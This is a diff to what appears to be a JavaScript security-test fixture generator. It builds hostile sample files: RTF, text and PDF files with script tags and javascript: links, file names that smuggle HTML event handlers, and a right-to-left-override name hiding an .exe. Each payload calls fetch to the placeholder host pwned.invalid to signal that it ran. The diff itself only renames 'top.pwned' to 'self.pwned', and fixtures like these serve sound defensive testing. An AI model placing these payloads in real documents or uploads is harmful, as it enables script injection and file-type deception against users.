@@ -5,7 +5,7 @@ import { join } from "node:path";
 import { OWNER } from "./world.mjs";
 
 const AWAY = "https://pwned.invalid";
-const run = (n) => `top.pwned=${n};fetch('${AWAY}/${n}');alert(${n})`;
+const run = (n) => `self.pwned=${n};fetch('${AWAY}/${n}');alert(${n})`;
 
 /** HTML that runs, loads, sends or leads somewhere, if it is let. */
 const HTML = [
@@ -138,8 +138,8 @@ export function files() {
   add("letter.rtf", `{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "javascript:${run(next())}"}{\\fldrslt tap}} <script>${run(next())}</script> {\\*\\template ${AWAY}/x.dot}}`);
   add("notes.txt", `<script>${run(next())}</script>\njavascript:${run(next())}\n${AWAY}/x`);
   add("script.pdf", pdf(next()));
-  add(`<img src=x onerror=top.pwned=1>.html`, `<p>A name that is a page ${next()}</p>`);
-  add(`"onmouseover="top.pwned=1" x=".txt`, `A name that is an attribute ${next()}`);
+  add(`<img src=x onerror=self.pwned=1>.html`, `<p>A name that is a page ${next()}</p>`);
+  add(`"onmouseover="self.pwned=1" x=".txt`, `A name that is an attribute ${next()}`);
   add(`\u202Efdp.exe.txt`, `A name that reads backwards ${next()}`);
   return out;
 }
@@ -153,7 +153,7 @@ function pdf(n) {
     `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:${n}) >> >>] >>`,
     `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
     "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    `<< /Title (<script>top.pwned=${n}</script>) >>`,
+    `<< /Title (<script>self.pwned=${n}</script>) >>`,
   ];
   let out = "%PDF-1.4\n";
   const places = objects.map((object, i) => { const at = out.length; out += `${i + 1} 0 obj\n${object}\nendobj\n`; return at; });
